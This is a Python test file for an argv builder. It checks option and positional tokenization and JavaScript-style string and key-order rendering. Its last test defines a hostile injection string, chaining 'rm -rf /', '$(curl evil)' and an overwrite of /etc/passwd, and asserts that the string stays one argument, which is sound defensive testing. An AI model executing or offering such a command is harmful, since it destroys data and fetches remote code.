"""``build_argv`` (preflight-adapter.md §4.3): options then positionals, JavaScript string forms and key order.

Expected strings are what JavaScript's ``String()`` and ``JSON.stringify`` write for each value.
"""

from __future__ import annotations

import pytest

from evalquality_core.probe.argv import (
    build_argv,
    js_key_order,
    js_string_of,
    option_tokens,
    positional_tokens,
)


def test_subcommand_then_options_then_positionals() -> None:
    assert build_argv(["notes", "add"], {"title": "x"}, {"body": "y"}) == ["notes", "add", "--title", "x", "y"]


def test_false_omits_true_is_bare_array_repeats() -> None:
    assert option_tokens({"dry-run": True, "verbose": False, "tag": ["a", "b"], "none": []}) == [
        "--dry-run", "--tag", "a", "--tag", "b",
    ]


def test_a_negated_flag_is_its_own_key() -> None:
    assert option_tokens({"color": False, "no-color": True}) == ["--no-color"]


def test_array_elements_take_their_string_forms() -> None:
    assert option_tokens({"x": [True, False, None, 1.5, {"k": 1}]}) == [
        "--x", "true", "--x", "false", "--x", "null", "--x", "1.5", "--x", '{"k":1}',
    ]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (1.0, "1"),
        (-0.0, "0"),
        (1e21, "1e+21"),
        (1.2345678901234568e20, "123456789012345680000"),
        (1e-7, "1e-7"),
        (0.000001, "0.000001"),
        (0.1, "0.1"),
        (42, "42"),
        (-3, "-3"),
        (True, "true"),
        (None, "null"),
        ("as is $(x)", "as is $(x)"),
        ([1, "a", [True]], '[1,"a",[true]]'),
        ({"b": 1, "a": [2.0]}, '{"b":1,"a":[2]}'),
        ({"q": 'say "hi"\n'}, '{"q":"say \\"hi\\"\\n"}'),
        ({"é": "ü"}, '{"é":"ü"}'),
    ],
)
def test_string_forms_follow_javascript(value: object, text: str) -> None:
    assert js_string_of(value) == text


def test_integer_like_keys_come_first_in_ascending_order() -> None:
    record = {"b": 1, "10": 2, "2": 3, "a": 4, "01": 5, "-1": 6, "4294967295": 7, "4294967294": 8}
    # "01", "-1" and 2^32-1 are not array indices, so they keep insertion order after the indices.
    assert js_key_order(record) == ["2", "10", "4294967294", "b", "a", "01", "-1", "4294967295"]
    assert js_string_of({"z": 1, "1": 2}) == '{"1":2,"z":1}'


def test_positionals_one_token_per_scalar_or_element() -> None:
    assert positional_tokens({"first": "a b", "rest": [1, False], "flag": False, "obj": {"k": None}}) == [
        "a b", "1", "false", "false", '{"k":null}',
    ]


def test_a_hostile_value_stays_one_element() -> None:
    hostile = "x; rm -rf / && $(curl evil) `id` | tee > /etc/passwd"
    assert build_argv([], {"name": hostile}, {"p": hostile}) == ["--name", hostile, hostile]
